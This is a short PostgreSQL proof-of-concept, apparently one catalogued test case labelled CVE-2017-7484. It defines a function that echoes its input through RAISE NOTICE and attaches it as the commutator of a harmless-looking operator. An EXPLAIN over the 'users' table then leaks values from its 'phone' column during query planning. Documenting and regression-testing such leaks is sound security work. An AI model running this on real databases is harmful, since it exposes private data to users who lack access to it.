-- what: the same through the commutator of an operator that itself uses a harmless built-in function
-- known: own; CVE-2017-7484
-- purpose: service
CREATE FUNCTION tells(text, text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN RAISE NOTICE 'saw %', $1; RETURN false; END $$;
CREATE OPERATOR <<< (FUNCTION = text_lt, LEFTARG = text, RIGHTARG = text, COMMUTATOR = >>>, RESTRICT = scalarltsel);
CREATE OPERATOR >>> (FUNCTION = tells, LEFTARG = text, RIGHTARG = text, COMMUTATOR = <<<, RESTRICT = scalargtsel);
EXPLAIN SELECT 1 FROM users WHERE 'x' <<< phone;
